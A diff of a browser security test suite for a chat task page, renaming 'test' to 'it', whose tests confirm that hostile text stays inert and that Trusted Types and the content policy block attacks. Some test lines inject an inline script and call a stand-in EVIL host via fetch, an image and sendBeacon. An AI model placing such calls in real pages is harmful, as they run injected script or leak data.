@@ -1,6 +1,6 @@
 // What a hostile model, tool or stored text can do in the page: nothing but appear as text. Every request of the browser is recorded.
 import type { Page } from 'playwright-core'
-import { describe, expect, test } from 'vitest'
+import { describe, expect, it } from 'vitest'
 import { assistantItem, saying, userItem, workflowItem } from './stand-in-chatkit.ts'
 import { modelRequests, say, signInAs, taskTitles, trail } from './taskflow-page.ts'
 import { eventually, type Visit, visits } from './visit.ts'
@@ -61,14 +61,14 @@ async function signedIn(): Promise<Visit & { readonly page: Page }> {
 }
 
 describe('hostile text', () => {
-  test.each(PAYLOADS)('in a message and its answer does nothing: %s', async (payload) => {
+  it.each(PAYLOADS)('in a message and its answer does nothing: %s', async (payload) => {
     const visited = await signedIn()
     ground().chatkit.scripts.push(saying(payload))
     await say(visited.page, payload)
     await expectHarmless(visited)
   })
 
-  test('everywhere else is only text: titles, steps, notices, errors, tasks, trail, model requests, ids', async () => {
+  it('everywhere else is only text: titles, steps, notices, errors, tasks, trail, model requests, ids', async () => {
     const payload = PAYLOADS.join('\n')
     const task = { type: 'custom', title: payload, content: payload, status_indicator: 'complete' }
     ground().chatkit.threads.set('thr_bad', {
@@ -130,7 +130,7 @@ describe('hostile text', () => {
     await expectHarmless(visited)
   })
 
-  test('in the address is only a thread that does not exist', async () => {
+  it('in the address is only a thread that does not exist', async () => {
     const visited = await visit({ path: `/#${encodeURIComponent(PAYLOADS[1])}` })
     await signInAs(visited.page, 'alice')
     await expectHarmless(visited)
@@ -139,7 +139,7 @@ describe('hostile text', () => {
 })
 
 describe('the policy holds even if the page had a fault', () => {
-  test('markup cannot be made from text (Trusted Types)', async () => {
+  it('markup cannot be made from text (Trusted Types)', async () => {
     const { page } = await visit()
     const attempt = `(() => { try { document.body.innerHTML = '<b>x</b>'; return 'made' } catch (error) { return error.name } })()`
     expect(await page.evaluate(attempt)).toBe('TypeError')
@@ -147,7 +147,7 @@ describe('the policy holds even if the page had a fault', () => {
     expect(await page.evaluate(policy)).toBe('TypeError')
   })
 
-  test.each([
+  it.each([
     [
       'an inline script',
       `const s = document.createElement('script'); s.append('globalThis.owned = 1'); document.body.append(s)`,
@@ -167,7 +167,7 @@ describe('the policy holds even if the page had a fault', () => {
     expect(await page.evaluate('globalThis.owned')).toBeUndefined()
   })
 
-  test.each([
+  it.each([
     ['fetch', `fetch('${EVIL}/fetch').catch(() => {})`],
     ['an image', `new Image().src = '${EVIL}/image'`],
     ['a beacon', `navigator.sendBeacon('${EVIL}/beacon', 'x')`],
